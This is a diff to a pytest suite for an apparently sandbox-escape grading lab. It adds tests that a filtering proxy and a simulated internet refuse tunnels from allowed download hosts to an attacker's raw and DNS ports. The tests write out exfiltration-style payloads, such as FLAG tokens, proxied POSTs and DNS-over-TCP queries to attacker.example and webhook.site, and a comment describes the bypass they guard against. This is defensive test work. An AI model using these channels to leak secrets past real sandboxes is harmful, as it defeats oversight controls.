@@ -23,7 +23,7 @@ from typing import Any, Callable, Iterator
 
 import pytest
 
-from grader.services import common, dnswire
+from grader.services import common, dnswire, proxy
 
 SERVICES = Path(__file__).resolve().parents[2] / "grader" / "services"
 HOSTS = [
@@ -44,6 +44,20 @@ class Services:
     https: int
     tcp: int
     proxy: int
+
+
+def _serves(dns: int, http: int, https: int, tcp: int, *names: str) -> dict[str, list[int]]:
+    """Each server's ports as the world gives them (80 and 443 everywhere, the attacker also 53 and its raw
+    port), in the ports these services listen on; ``names`` (extra names) serve the raw port only."""
+    out = {h: [http, https] for h in HOSTS if h != "attacker.example"}
+    return {**out, "attacker.example": [dns, http, https, tcp], **{n: [tcp] for n in names}}
+
+
+def _world(dns: int, http: int, https: int, tcp: int, operators: list[str] | None = None,
+           catch_all: str | None = None) -> dict[str, Any]:
+    """The proxy's ``world`` config: the internet's server rule and ``_serves``, as the backends write it."""
+    return {"serves": _serves(dns, http, https, tcp), "wildcard_zones": ["attacker.example"],
+            "operators": operators or [], "catch_all": catch_all}
 
 
 def _free_ports(count: int) -> list[int]:
@@ -113,6 +127,7 @@ def services(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Services]:
             "hosts": HOSTS, "wildcard_zones": ["attacker.example"], "extra_names": ["host.docker.internal"],
             "address": LOCALHOST, "bind": LOCALHOST, "dns_port": dns, "http_port": http, "https_port": https,
             "tcp_ports": [tcp], "out_dir": str(world.internet_out), "nonce": world.nonce,
+            "serves": _serves(dns, http, https, tcp, "host.docker.internal"),
         }  # fmt: skip
         procs.append(_start("internet.py", internet_config, opt, world.internet_out))
         ready = json.loads((world.internet_out / "ready").read_text())
@@ -121,7 +136,7 @@ def services(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Services]:
             # 127.0.0.1 is listed on purpose: a listed IP literal is looked up like a name, never dialled.
             "allowed": ["registry.npmjs.org", "*.github.com", "127.0.0.1"], "denied": ["api.github.com"],
             "listen_port": proxy_port, "bind": LOCALHOST, "dns_server": LOCALHOST, "dns_port": dns,
-            "out_dir": str(world.proxy_out),
+            "out_dir": str(world.proxy_out), "world": _world(dns, http, https, tcp),
         }  # fmt: skip
         procs.append(_start("proxy.py", proxy_config, opt, world.proxy_out))
         yield world
@@ -367,15 +382,17 @@ def test_https_through_connect_verifies_and_lands_in_the_sink(services: Services
     )  # fmt: skip
 
 
-def test_tunnel_carries_raw_tcp_and_half_close(services: Services) -> None:
+def test_tunnel_carries_raw_tcp_and_half_close(fail_closed: Services) -> None:
+    """To a name of the attacker's server (webhook.site: the world does not know it), on its raw port."""
     token = uuid.uuid4().hex
-    sock, head = _connect_through(services, "registry.npmjs.org", services.tcp)
+    sock, head = _connect_through(fail_closed, "webhook.site", fail_closed.tcp)
     with sock:
         assert head.startswith(b"HTTP/1.1 200")
         sock.sendall(token.encode())
         sock.shutdown(socket.SHUT_WR)  # the sink answers once the client has finished
-        assert sock.recv(100) == f"ok {services.nonce}\n".encode()
-    _wait_for(services.internet_out / "tcp.jsonl", lambda r: r["data"] == token)
+        assert sock.recv(100) == f"ok {fail_closed.nonce}\n".encode()
+    record = _wait_for(fail_closed.internet_out / "tcp.jsonl", lambda r: r.get("data") == token)
+    assert record["via"] == "webhook.site"
 
 
 def test_denied_host_gets_403_and_is_never_resolved(services: Services) -> None:
@@ -442,7 +459,8 @@ def test_a_warm_proxy_fails_closed_until_its_policy_file_arrives(services: Servi
     policy = tmp_path / "policy.json"
     (port,) = _free_ports(1)
     config = {"allowed": [], "policy_file": str(policy), "listen_port": port, "bind": LOCALHOST,
-              "dns_server": LOCALHOST, "dns_port": services.dns, "out_dir": str(out)}  # fmt: skip
+              "dns_server": LOCALHOST, "dns_port": services.dns, "out_dir": str(out),
+              "world": _world(services.dns, services.http, services.https, services.tcp)}  # fmt: skip
     proc = _start("proxy.py", config, opt, out)
     request = f"GET http://registry.npmjs.org:{services.http}/x HTTP/1.1\r\nHost: registry.npmjs.org\r\n\r\n".encode()
     try:
@@ -468,7 +486,8 @@ def parent_proxy(services: Services, tmp_path: Path) -> Iterator[tuple[int, Path
     (port,) = _free_ports(1)
     config = {"allowed": [], "any_host": True, "listen_port": port, "bind": LOCALHOST,
               "dns_server": LOCALHOST, "dns_port": services.dns, "out_dir": str(out),
-              "upstream_ports": {"80": services.http, "443": services.https, "4444": services.tcp}}  # fmt: skip
+              "upstream_ports": {"80": services.http, "443": services.https, "4444": services.tcp},
+              "world": _world(53, 80, 443, 4444)}  # the world's own ports: srt asks for them  # fmt: skip
     proc = _start("proxy.py", config, opt, out)
     try:
         yield port, out / "proxy.jsonl"
@@ -505,7 +524,8 @@ def test_the_parent_proxy_dials_no_port_but_the_sinks(services: Services, parent
         with pytest.raises(socket.timeout):
             host_service.accept()
     record = _wait_for(log, lambda r: r["port"] == other)
-    assert record["reason"].endswith(f"no sink listens on port {other}")
+    # no host of the world serves that port: refused before any lookup (with no world, "no sink listens")
+    assert record["decision"] == "deny" and record["reason"].startswith(proxy.NOT_SERVED), record
 
 
 def test_the_parent_proxy_still_refuses_names_no_server_answers(parent_proxy: tuple[int, Path]) -> None:
@@ -559,10 +579,12 @@ def fail_closed(services: Services, tmp_path_factory: pytest.TempPathFactory) ->
             "hosts": HOSTS, "wildcard_zones": ["attacker.example"], "operators": OPERATORS, "catch_all": "attacker.example",
             "address": LOCALHOST, "bind": LOCALHOST, "dns_port": dns, "http_port": http, "https_port": https,
             "tcp_ports": [tcp], "out_dir": str(world.internet_out), "nonce": world.nonce,
+            "serves": _serves(dns, http, https, tcp),
         }, opt, world.internet_out))  # fmt: skip
         procs.append(_start("proxy.py", {
             "allowed": FAIL_CLOSED_ALLOWED, "listen_port": proxy_port, "bind": LOCALHOST,
             "dns_server": LOCALHOST, "dns_port": dns, "out_dir": str(world.proxy_out),
+            "world": _world(dns, http, https, tcp, OPERATORS, "attacker.example"),
         }, opt, world.proxy_out))  # fmt: skip
         yield world
     finally:
@@ -696,7 +718,8 @@ def test_the_proxy_dials_nothing_but_the_simulated_internet(fail_closed: Service
         threading.Thread(target=answer, daemon=True).start()
         (port,) = _free_ports(1)
         out = tmp_path / "proxy"
-        proc = _start("proxy.py", {"allowed": ["webhook.site"], "listen_port": port, "bind": LOCALHOST,
+        # no world (as the exported script runs it): the dial guard alone must hold
+        proc = _start("proxy.py", {"allowed": ["webhook.site"], "listen_port": port, "bind": LOCALHOST, "world": None,
                                    "dns_server": LOCALHOST, "dns_port": liar.getsockname()[1], "out_dir": str(out)}, opt, out)  # fmt: skip
         try:
             head = _exchange(port, f"CONNECT webhook.site:{port_elsewhere} HTTP/1.1\r\n\r\n".encode())
@@ -707,3 +730,219 @@ def test_the_proxy_dials_nothing_but_the_simulated_internet(fail_closed: Service
     assert head.startswith(b"HTTP/1.1 502"), head
     record = _wait_for(out / "proxy.jsonl", lambda r: r["host"] == "webhook.site")
     assert "refused to dial 127.0.0.2" in record["reason"]
+
+
+# --- hosts answer only on their own ports (issue 22, finding 4) --------------------------------
+#
+# Every simulated host shares one address. The attack this section pins: a sandbox whose policy
+# allows only download hosts (pypi.org, registry.npmjs.org) asks its proxy for
+# ``CONNECT registry.npmjs.org:4444`` (the attacker's raw listener) or ``CONNECT pypi.org:53`` (the
+# attacker's nameserver, DNS over TCP), and the shared address used to answer both: the flag left over
+# channels the real internet does not have, while grading the same policy said no secret leaves.
+# Now the proxy refuses a port the name's server does not serve before any lookup, and each listener
+# of the internet refuses a proxied connection for a name whose server does not serve its port,
+# before reading a byte of it; both log the refusal with its reason and no payload.
+
+
+def _send_refusable(port: int, data: bytes) -> bytes:
+    """Send ``data`` and read until the server closes; a server that closes on unread bytes resets: b"" then."""
+    answer = b""
+    with socket.create_connection((LOCALHOST, port), timeout=5) as sock:
+        try:
+            sock.sendall(data)
+            sock.shutdown(socket.SHUT_WR)
+            while chunk := sock.recv(4096):
+                answer += chunk
+        except OSError:
+            pass  # reset or closed: refused before anything was read
+    return answer
+
+
+def _dns_over_tcp(sock: socket.socket, name: str) -> bytes:
+    """Send one length-prefixed A query for ``name``; return the answer ("" when the server closed instead)."""
+    query = dnswire.build_query(0x5151, name)
+    answer = b""
+    try:
+        sock.sendall(len(query).to_bytes(2, "big") + query)
+        sock.shutdown(socket.SHUT_WR)
+        while chunk := sock.recv(4096):
+            answer += chunk
+    except OSError:
+        pass  # refused with unread bytes: the kernel resets
+    return answer
+
+
+@pytest.mark.parametrize("port_of", ["tcp", "dns"])
+def test_an_allowed_download_host_on_the_attackers_ports_is_refused_by_the_proxy(services: Services, port_of: str) -> None:
+    """CONNECT registry.npmjs.org:<raw port> and :<DNS port>: allowed by name, served by nothing."""
+    port = getattr(services, port_of)
+    token = uuid.uuid4().hex
+    sock, head = _connect_through(services, "registry.npmjs.org", port)
+    with sock:
+        assert head.startswith(b"HTTP/1.1 502"), head
+        assert b"X-Proxy-Error: blocked-by-allowlist" not in head  # the policy allowed the name; the world refused
+    response = _exchange(services.proxy, f"POST http://registry.npmjs.org:{port}/{token} HTTP/1.1\r\nContent-Length: 5\r\n\r\nFLAG!".encode())
+    assert response.startswith(b"HTTP/1.1 502") and b"serves no port" in response
+    refusals = [r for r in _records(services.proxy_out / "proxy.jsonl") if r["host"] == "registry.npmjs.org" and r["port"] == port]
+    assert [(r["method"], r["decision"]) for r in refusals][-2:] == [("CONNECT", "deny"), ("POST", "deny")]
+    reason = refusals[-1]["reason"]
+    assert reason.startswith(proxy.NOT_SERVED) and f"serves no port {port}" in reason, reason
+    assert 'matches allowed entry "registry.npmjs.org"' in reason  # the log says both: the policy's yes, the world's no
+    assert not [r for r in _records(services.internet_out / "tcp.jsonl") if token in str(r.get("data", ""))]
+
+
+def test_spelling_the_name_or_the_port_differently_changes_nothing(services: Services) -> None:
+    """The name is judged normalized (case, a trailing dot) and the port as a number (leading zeros)."""
+    for authority in (f"REGISTRY.npmjs.org.:{services.tcp}", f"registry.npmjs.org:0{services.tcp}", f"Registry.NPMJS.org:{services.dns}"):
+        head = _exchange(services.proxy, f"CONNECT {authority} HTTP/1.1\r\n\r\n".encode())
+        assert head.startswith(b"HTTP/1.1 502"), (authority, head)
+    assert not [r for r in _records(services.proxy_out / "proxy.jsonl")
+                if r["host"] == "registry.npmjs.org" and r["port"] in (services.tcp, services.dns) and r["decision"] == "allow"]
+
+
+def test_an_allowed_host_on_its_own_ports_is_let_through(services: Services) -> None:
+    for port in (services.https, services.http):
+        sock, head = _connect_through(services, "registry.npmjs.org", port)
+        sock.close()
+        assert head.startswith(b"HTTP/1.1 200"), (port, head)
+    record = _wait_for(services.proxy_out / "proxy.jsonl", lambda r: r["host"] == "registry.npmjs.org" and r["port"] == services.https)
+    assert record["decision"] == "allow" and not record["reason"].startswith(proxy.NOT_SERVED)
+
+
+def test_the_ports_decision_is_the_worlds() -> None:
+    """The proxy's rule, pure: a name's server, then that server's ports; the attacker's server serves every name it owns."""
+    ports = proxy.Ports.from_config({
+        "serves": {"pypi.org": [80, 443], "attacker.example": [53, 80, 443, 4444]},
+        "wildcard_zones": ["attacker.example"], "operators": ["pypi.org"], "catch_all": "attacker.example",
+    })  # fmt: skip
+    assert ports.refusal("pypi.org", 443) is None and ports.refusal("pypi.org", 80) is None
+    for port in (4444, 53, 22, 8080):
+        why = ports.refusal("pypi.org", port)
+        assert why is not None and why.startswith(proxy.NOT_SERVED) and f"no port {port}" in why
+    for name in ("attacker.example", "x.attacker.example", "webhook.site", "169.254.169.254"):
+        assert ports.refusal(name, 4444) is None and ports.refusal(name, 53) is None, name
+        assert ports.refusal(name, 22) is not None, name
+    assert ports.refusal("nope.pypi.org", 4444) is None  # no server has the name: the lookup answers NXDOMAIN
+    for bad in ({}, {"serves": {}, "wildcard_zones": [], "operators": [], "catch_all": None},
+                {"serves": {"pypi.org": ["443"]}, "wildcard_zones": [], "operators": [], "catch_all": None},
+                {"serves": {"pypi.org": [443]}, "wildcard_zones": ["attacker.example"], "operators": [], "catch_all": None}):
+        with pytest.raises(ValueError):
+            proxy.Ports.from_config(bad)
+
+
+def test_the_raw_listener_refuses_a_tunnel_to_any_host_but_the_attackers(services: Services) -> None:
+    """What a proxy without the ports check (or a bug in it) would deliver: the listener refuses it by itself."""
+    token = uuid.uuid4().hex
+    for name in ("registry.npmjs.org", "pypi.org", "gist.github.com"):
+        assert _send_refusable(services.tcp, common.target_line(name) + f"FLAG {token}\n".encode()) == b""  # no "ok"
+        record = _wait_for(services.internet_out / "tcp.jsonl", lambda r, n=name: r.get("via") == n and "refused" in r)
+        assert f"serves no port {services.tcp}" in record["refused"] and "data" not in record
+    assert not [r for r in _records(services.internet_out / "tcp.jsonl") if token in str(r.get("data", ""))]
+    with socket.create_connection((LOCALHOST, services.tcp), timeout=5) as sock:  # the attacker's own name: served
+        sock.sendall(common.target_line("x.attacker.example") + f"FLAG {token}\n".encode())
+        sock.shutdown(socket.SHUT_WR)
+        assert sock.recv(100) == f"ok {services.nonce}\n".encode()
+    record = _wait_for(services.internet_out / "tcp.jsonl", lambda r: token in str(r.get("data", "")))
+    assert record["via"] == "x.attacker.example" and "refused" not in record
+
+
+def test_dns_over_tcp_refuses_a_tunnel_to_any_host_but_the_nameservers(services: Services) -> None:
+    """CONNECT pypi.org:53 reaching the DNS listener: no query in it is read, answered or logged."""
+    token = uuid.uuid4().hex
+    with socket.create_connection((LOCALHOST, services.dns), timeout=5) as sock:
+        sock.sendall(common.target_line("pypi.org"))
+        assert _dns_over_tcp(sock, f"{token}.attacker.example") == b""
+    record = _wait_for(services.internet_out / "dns.jsonl", lambda r: r.get("via") == "pypi.org")
+    assert f"serves no port {services.dns}" in record["refused"] and "qname" not in record
+    assert not [r for r in _records(services.internet_out / "dns.jsonl") if token in str(r.get("qname", ""))]
+    with socket.create_connection((LOCALHOST, services.dns), timeout=5) as sock:  # to the nameserver's own name
+        sock.sendall(common.target_line("attacker.example"))
+        answer = _dns_over_tcp(sock, f"{token}b.attacker.example")
+    assert dnswire.parse_response(answer[2:]).addresses == (LOCALHOST,)
+    _wait_for(services.internet_out / "dns.jsonl", lambda r: r.get("qname") == f"{token}b.attacker.example")
+
+
+def test_an_http_listener_refuses_a_host_that_does_not_serve_its_port(services: Services) -> None:
+    """host.docker.internal serves only the raw port here: a proxied connection to its HTTP port reads nothing."""
+    token = uuid.uuid4().hex
+    request = f"POST /{token} HTTP/1.1\r\nContent-Length: 1\r\n\r\nx".encode()
+    assert _send_refusable(services.http, common.target_line("host.docker.internal") + request) == b""
+    record = _wait_for(services.internet_out / "http.jsonl", lambda r: r.get("host") == "host.docker.internal" and "refused" in r)
+    assert record["stage"] == "connect" and "body" not in record and record["path"] == ""
+    assert not [r for r in _records(services.internet_out / "http.jsonl") if token in str(r.get("path", ""))]
+
+
+def test_a_direct_connection_carries_no_name_and_is_served_as_before(services: Services) -> None:
+    """Pinned on purpose: without the proxy's line (the plain container, on the internet's own network) the
+    listener cannot tell which name was meant, and serves it. The plain container also reaches the attacker's
+    own address, so whatever arrives here could have been sent to the attacker directly: a capture stays true."""
+    token = uuid.uuid4().hex
+    with socket.create_connection((LOCALHOST, services.dns), timeout=5) as sock:
+        answer = _dns_over_tcp(sock, f"{token}.attacker.example")
+    assert dnswire.parse_response(answer[2:]).addresses == (LOCALHOST,)
+    record = _wait_for(services.internet_out / "dns.jsonl", lambda r: r.get("qname") == f"{token}.attacker.example")
+    assert "refused" not in record and "via" not in record
+
+
+@pytest.mark.parametrize("script, change, says", [
+    ("internet.py", lambda c: c.pop("serves"), "missing keys ['serves']"),
+    ("internet.py", lambda c: c["serves"].pop("pypi.org"), "no ports for pypi.org"),
+    ("internet.py", lambda c: c["serves"].__setitem__("pypi.org", [22]), "no listener"),
+    ("proxy.py", lambda c: c.pop("world"), "missing keys ['world']"),
+    ("proxy.py", lambda c: c["world"]["serves"].pop("attacker.example"), "no ports for attacker.example"),
+])  # fmt: skip
+def test_a_service_without_the_worlds_ports_does_not_start(services: Services, tmp_path: Path, script: str,
+                                                           change: Callable[[dict[str, Any]], Any], says: str) -> None:
+    """Fail closed at start: a config that forgot the ports is never read as "every host serves every port"."""
+    dns, http, https, tcp, port = _free_ports(5)
+    config: dict[str, Any] = {
+        "hosts": HOSTS, "wildcard_zones": ["attacker.example"], "address": LOCALHOST, "bind": LOCALHOST,
+        "dns_port": dns, "http_port": http, "https_port": https, "tcp_ports": [tcp], "nonce": "n",
+        "serves": _serves(dns, http, https, tcp), "out_dir": str(tmp_path / "out"),
+    } if script == "internet.py" else {
+        "allowed": ["pypi.org"], "listen_port": port, "bind": LOCALHOST, "dns_server": LOCALHOST, "dns_port": dns,
+        "out_dir": str(tmp_path / "out"), "world": _world(dns, http, https, tcp),
+    }  # fmt: skip
+    change(config)
+    path = tmp_path / "config.json"
+    path.write_text(json.dumps(config))
+    opt = services.proxy_out.parent / "opt"
+    env = {k: v for k, v in os.environ.items() if k != "PYTHONPATH"}
+    done = subprocess.run([sys.executable, str(opt / script), str(path)], cwd=opt, env=env, capture_output=True, text=True, timeout=30)
+    assert done.returncode != 0 and says in done.stderr, done.stderr[-500:]
+    assert not (tmp_path / "out" / "ready").exists()
+
+
+def test_the_srt_backends_services_serve_the_worlds_ports_on_their_loopback_ports(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """The srt backend's configs (its internet on free loopback ports, its parent proxy mapping the world's
+    ports to them), started as it starts them: the world's ports answer, an allowed download host's 4444 does not."""
+    from grader import load_policy
+    from grader.backends import srt
+    from grader.plan import build_plan
+
+    monkeypatch.setenv("SANDBOX_LAB_RUNS", str(tmp_path))
+    run = srt._Run(build_plan(load_policy({"network": {"allowedDomains": ["pypi.org"]}})), "")
+    dns, http, https, tcp, port = srt._free_ports(5)
+    try:
+        run._start_services(dns, http, https, tcp, port)
+        token = uuid.uuid4().hex
+        assert _send_refusable(port, b"CONNECT pypi.org:4444 HTTP/1.1\r\n\r\n").startswith(b"HTTP/1.1 502")
+        assert _send_refusable(port, b"CONNECT pypi.org:53 HTTP/1.1\r\n\r\n").startswith(b"HTTP/1.1 502")
+        answer = _send_refusable(port, f"CONNECT x.attacker.example:4444 HTTP/1.1\r\n\r\n{token}".encode())
+        assert answer.startswith(b"HTTP/1.1 200") and answer.endswith(b"\n") and b"ok " in answer, answer
+        internet = run.dir.path / "internet" / "out"
+        _wait_for(internet / "tcp.jsonl", lambda r: r.get("data") == token and r.get("port") == tcp)
+        with socket.create_connection((LOCALHOST, port), timeout=5) as sock:
+            sock.sendall(b"CONNECT attacker.example:53 HTTP/1.1\r\n\r\n")
+            head = b""
+            while not head.endswith(b"\r\n\r\n") and (chunk := sock.recv(1)):
+                head += chunk
+            assert head.startswith(b"HTTP/1.1 200"), head
+            assert dnswire.parse_response(_dns_over_tcp(sock, f"{token}.attacker.example")[2:]).addresses == (LOCALHOST,)
+        refused = [r for r in _records(run.dir.path / "proxy" / "out" / "proxy.jsonl") if r["host"] == "pypi.org"]
+        assert [(r["port"], r["decision"]) for r in refused] == [(4444, "deny"), (53, "deny")]
+        assert all(r["reason"].startswith(proxy.NOT_SERVED) for r in refused)
+    finally:
+        for p in run.procs:
+            _stop(p)
+        shutil.rmtree(run.dir.path, ignore_errors=True)
